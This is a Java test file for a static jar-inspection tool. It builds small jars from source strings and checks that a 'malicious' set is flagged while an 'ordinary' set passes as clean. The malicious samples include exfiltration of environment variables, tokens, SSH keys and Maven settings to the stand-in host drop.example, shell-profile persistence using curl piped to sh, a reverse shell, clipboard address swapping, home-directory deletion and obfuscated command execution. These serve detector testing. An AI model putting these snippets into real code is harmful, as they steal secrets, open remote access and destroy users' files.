package cordon.inspect;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import cordon.formats.archive.ByteSource;
import cordon.inspect.delta.Baseline;
import cordon.inspect.rules.Rules;
import cordon.inspect.tree.UnpackLimits;
import cordon.testkit.archive.Compiled;
import cordon.testkit.archive.ZipForge;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What jars do by themselves, spelt as attackers do, and what only looks like it. All is inert. */
class JarTechniquesTest {
  private static final StaticInspector INSPECTOR =
      new StaticInspector(Rules.own(false).build(), UnpackLimits.DEFAULT);

  private static final String IMPORTS =
      "package a; import java.io.*; import java.net.*; import java.net.http.*; import java.nio.file.*;"
          + " import java.nio.file.attribute.*; import java.util.*; import java.lang.invoke.*;"
          + " import java.awt.*; import java.awt.datatransfer.*; ";

  private static final String SERVICE = "META-INF/services/";

  /**
   * @param manifest that names the class, by path; empty for none
   * @param source of {@code a.Lead} and what goes with it
   */
  record Jar(String name, String manifest, String source) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static Jar initializer(String name, String body) {
    return initializer(name, body, "");
  }

  private static Jar initializer(String name, String body, String members) {
    return new Jar(
        name,
        "",
        "public class Lead { static { try {"
            + body
            + "} catch (Throwable t) { } } "
            + members
            + "}");
  }

  static List<Jar> malicious() {
    String send =
        "static void send(byte[] b) throws IOException { URLConnection c ="
            + " new URL(\"https://drop.example/\").openConnection(); c.setDoOutput(true);"
            + " c.getOutputStream().write(b); c.getInputStream(); }";
    return List.of(
        initializer(
            "the environment, gathered by a lambda",
            "StringJoiner j = new StringJoiner(\"&\"); System.getenv().forEach((k, v) -> j.add(k + v));"
                + " send(j.toString().getBytes());",
            send),
        initializer(
            "a header that is run by a server of its own",
            "com.sun.net.httpserver.HttpServer h = com.sun.net.httpserver.HttpServer.create(new InetSocketAddress(1), 0);"
                + " h.createContext(\"/\", e -> Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\","
                + " e.getRequestHeaders().getFirst(\"X\")}));"),
        initializer(
            "the clipboard, exchanged by what it holds",
            "Clipboard b = Toolkit.getDefaultToolkit().getSystemClipboard();"
                + " if (b.getContents(null).getTransferData(DataFlavor.stringFlavor).toString().startsWith(\"bc1\"))"
                + " b.setContents(new StringSelection(\"inert\"), null);"),
        initializer(
            "a line in a profile that fetches",
            "Files.write(Path.of(System.getProperty(\"user.home\"), \".zshrc\"),"
                + " \"\\n(curl -s https://drop.example/z|sh) &\\n\".getBytes(), StandardOpenOption.APPEND);"),
        new Jar(
            "a plug-in of a server that fetches another",
            "plugin.yml",
            "public class Lead { public void onEnable() throws Exception { File f = new File(\"plugins\", \"helper.jar\");"
                + " new URL(\"https://drop.example/h.jar\").openStream().transferTo(new FileOutputStream(f));"
                + " Runtime.getRuntime().exec(new String[] {\"java\", \"-jar\", f.getPath()}); } }"),
        initializer(
            "a file of keys in the body of a request",
            "String s = Files.readString(Path.of(System.getProperty(\"user.home\"), \".m2\", \"settings.xml\"));"
                + " HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://drop.example/\"))"
                + ".POST(HttpRequest.BodyPublishers.ofString(s)).build(), HttpResponse.BodyHandlers.discarding());"),
        initializer(
            "a token in the query of an address",
            "new URL(\"https://drop.example/?t=\" + System.getenv(\"GITHUB_TOKEN\")).openStream().close();"),
        initializer(
            "each file of a folder, by a lambda and a method that stands further down",
            "Files.list(Paths.get(System.getProperty(\"user.home\")).resolve(\".ssh\"))"
                + ".forEach(f -> { try { send(Files.readAllBytes(f)); } catch (IOException e) { } });",
            send),
        initializer(
            "the environment stored to a connection",
            "Properties p = new Properties(); p.putAll(System.getenv()); URLConnection c ="
                + " new URL(\"https://drop.example/\").openConnection(); c.setDoOutput(true);"
                + " p.store(c.getOutputStream(), null);"),
        initializer(
            "method handles by computed names, and an encoded command",
            "Class<?> r = Class.forName(new StringBuilder(\"emitnuR.gnal.avaj\").reverse().toString());"
                + " Object o = MethodHandles.lookup().findStatic(r, \"getRuntime\", MethodType.methodType(r)).invoke();"
                + " MethodHandles.lookup().findVirtual(r, \"exec\", MethodType.methodType(Process.class, String.class))"
                + ".invoke(o, new String(Base64.getDecoder().decode(\"ZWNobyBpbmVydA==\")));"),
        initializer(
            "an object made and called by reflection",
            "Object u = Class.forName(\"java.net.URL\").getConstructor(String.class).newInstance(\"https://drop.example/\");"
                + " URLConnection c = (URLConnection) u.getClass().getMethod(\"openConnection\").invoke(u);"
                + " new ObjectOutputStream(c.getOutputStream()).writeObject(System.getenv());"),
        initializer(
            "a command made of shifted characters",
            "Runtime.getRuntime().exec(plain(\"hfkr#lqhuw\", 3));",
            "static String plain(String s, int n) { char[] c = s.toCharArray();"
                + " for (int i = 0; i < c.length; i++) { c[i] = (char) (c[i] - n); } return new String(c); }"),
        initializer(
            "a command spelt without blanks",
            "new ProcessBuilder(Arrays.asList(\"bash\", \"-c\","
                + " \"{echo,ZWNobyBpbmVydA==}|{base64,-d}|bash\")).start();"),
        initializer(
            "what every shell runs",
            "FileWriter w = new FileWriter(System.getProperty(\"user.home\") + \"/.bashrc\", true);"
                + " w.write(\"(curl -s https://drop.example/x | sh) &\"); w.close();"),
        initializer(
            "a home that is deleted by recursion",
            "gone(new File(System.getProperty(\"user.home\")));",
            "static void gone(File f) { File[] all = f.listFiles(); if (all != null) {"
                + " for (File each : all) { gone(each); } } f.delete(); }"),
        initializer(
            "a home whose files are written over",
            "Files.walk(Paths.get(System.getProperty(\"user.home\"))).forEach(f -> {"
                + " try { Files.write(f, new byte[9]); } catch (IOException e) { } });"),
        initializer(
            "an address on the clipboard that is exchanged",
            "Clipboard c = Toolkit.getDefaultToolkit().getSystemClipboard();"
                + " String s = (String) c.getData(DataFlavor.stringFlavor);"
                + " if (s.startsWith(\"0x\")) { c.setContents(new StringSelection(\"0x0\"), null); }"),
        new Jar(
            "a visitor in a class of its own",
            "META-INF/maven/plugin.xml",
            "public class Lead { public void execute() throws Exception {"
                + " Files.walkFileTree(Paths.get(System.getProperty(\"user.home\")), new SimpleFileVisitor<Path>() {"
                + " public FileVisitResult visitFile(Path f, BasicFileAttributes a) throws IOException {"
                + " Files.delete(f); return FileVisitResult.CONTINUE; } }); } }"),
        new Jar(
            "one class decodes, another defines",
            "",
            "public class Lead { static { try { byte[] d = Lead.class.getResourceAsStream(\"x.png\").readAllBytes();"
                + " for (int i = 0; i < d.length; i++) { d[i] ^= 7; } new Maker().make(d); } catch (Throwable t) { } } }"
                + " class Maker extends ClassLoader { void make(byte[] b) { defineClass(null, b, 0, b.length); } }"),
        new Jar(
            "one class fetches, another writes and runs",
            "",
            "public class Lead { static final Lead L = new Lead(); Lead() { new Getter().get(new Runner()); } }"
                + " class Getter { void get(Runner r) { try { r.take(new URL(Where.at()).openConnection()"
                + ".getInputStream().readAllBytes()); } catch (IOException e) { } } }"
                + " class Runner { void take(byte[] b) throws IOException { File f = new File(\"/tmp/x.bin\");"
                + " try (FileOutputStream o = new FileOutputStream(f)) { o.write(b); }"
                + " Runtime.getRuntime().exec(f.getPath()); } }"
                + " class Where { static String at() { return \"https://\" + \"drop.example/b\"; } }"),
        new Jar(
            "a bean of a framework that opens a shell to somebody",
            "META-INF/spring/x.AutoConfiguration.imports",
            "public class Lead { @PostConstruct public void ready() throws Exception {"
                + " Process p = new ProcessBuilder(\"sh\", \"-i\").start(); Socket s = new Socket(\"192.0.2.7\", 9001);"
                + " s.getInputStream().transferTo(p.getOutputStream());"
                + " int c; while ((c = p.getInputStream().read()) >= 0) { s.getOutputStream().write(c); } } }"
                + " @java.lang.annotation.Retention(java.lang.annotation.RetentionPolicy.RUNTIME)"
                + " @interface PostConstruct { }"),
        new Jar(
            "an extension of tests that sends the environment away",
            SERVICE + "org.junit.jupiter.api.extension.Extension",
            "public class Lead { public void beforeAll(Object context) throws Exception {"
                + " HttpClient.newHttpClient().sendAsync(HttpRequest.newBuilder(URI.create(\"https://drop.example/\"))"
                + ".header(\"X-All\", System.getenv().toString()).build(), HttpResponse.BodyHandlers.ofString()); } }"));
  }

  static List<Jar> ordinary() {
    return List.of(
        initializer(
            "a server that looks at headers",
            "com.sun.net.httpserver.HttpServer h = com.sun.net.httpserver.HttpServer.create(new InetSocketAddress(1), 0);"
                + " h.createContext(\"/\", e -> { if (\"1\".equals(e.getRequestHeaders().getFirst(\"X\")))"
                + " Runtime.getRuntime().exec(new String[] {\"git\", \"gc\"}); });"),
        new Jar(
            "a plug-in of a server",
            "plugin.yml",
            "public class Lead { public void onEnable() { System.out.println(System.getProperty(\"user.name\")); } }"),
        initializer(
            "a native part that is unpacked and loaded",
            "File f = File.createTempFile(\"lib\", \".so\"); InputStream in ="
                + " Lead.class.getResource(\"/native/l.so\").openConnection().getInputStream();"
                + " Files.copy(in, f.toPath(), StandardCopyOption.REPLACE_EXISTING); System.load(f.getPath());"),
        initializer(
            "a file of its own in the home, deleted",
            "new File(new File(System.getProperty(\"user.home\"), \".tool\"), \"lock\").delete();"
                + " for (File f : new File(System.getProperty(\"user.home\") + \"/.tool/tmp\").listFiles()) { f.delete(); }"),
        initializer(
            "a file whose name is not known, in the home, written and deleted",
            "String n = System.getProperty(\"tool.cache\"); File f = new File(System.getProperty(\"user.home\"), n);"
                + " Files.write(f.toPath(), new byte[1]); Files.delete(f.toPath());"),
        initializer(
            "a folder that is cleared by recursion, whichever it is",
            "gone(new File(System.getProperty(\"java.io.tmpdir\"), \"tool\"));",
            "static void gone(File f) { File[] all = f.listFiles(); if (all != null) {"
                + " for (File each : all) { gone(each); } } f.delete(); }"),
        initializer(
            "a request to an address from the settings",
            "URLConnection c = new URL(System.getenv(\"TOOL_URL\") + \"/status\").openConnection();"
                + " c.setRequestProperty(\"Accept\", \"text/plain\"); c.getInputStream();"),
        initializer(
            "a resource that names classes",
            "for (String n : new String(Lead.class.getResource(\"/names\").openStream().readAllBytes()).split(\",\")) {"
                + " Class.forName(n).getDeclaredConstructor().newInstance(); }"),
        new Jar(
            "a record, whose methods compare by handles of fields",
            SERVICE + "java.sql.Driver",
            "public class Lead { record Pair(String a, Runnable b) { } public Lead() {"
                + " new Pair(System.getenv(\"X\"), () -> System.getProperties()).hashCode(); } }"),
        new Jar(
            "an agent that changes classes",
            "META-INF/MANIFEST.MF",
            "public class Lead { public static void premain(String a, java.lang.instrument.Instrumentation i) {"
                + " i.addTransformer(new java.lang.instrument.ClassFileTransformer() { }); } }"));
  }

  private static Report inspect(Jar jar) throws IOException {
    ZipForge zip = new ZipForge();
    Map<String, byte[]> files = new TreeMap<>();
    String naming =
        jar.manifest().endsWith(".xml")
            ? "<plugin><mojo><implementation>a.Lead</implementation></mojo></plugin>"
            : jar.manifest().endsWith(".MF")
                ? "Premain-Class: a.Lead\n"
                : jar.manifest().endsWith(".yml") ? "main: a.Lead\n" : "a.Lead\n";
    if (!jar.manifest().isEmpty()) {
      files.put(jar.manifest(), naming.getBytes(UTF_8));
    }
    files.putAll(Compiled.classes("a.Lead", IMPORTS + jar.source()));
    files.forEach((path, content) -> zip.add(ZipForge.Entry.of(path, content)));
    return INSPECTOR.inspect(Subject.file("a-1.0.jar"), ByteSource.of(zip.bytes()), Baseline.NONE);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("malicious")
  void isFound(Jar jar) throws IOException {
    Report report = inspect(jar);
    assertThat(report.verdict()).as(report.triggers().toString()).isEqualTo(Verdict.MALICIOUS);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("ordinary")
  void isClean(Jar jar) throws IOException {
    Report report = inspect(jar);
    assertThat(report.verdict())
        .as(report.findings() + " " + report.doubts())
        .isEqualTo(Verdict.CLEAN);
  }
}
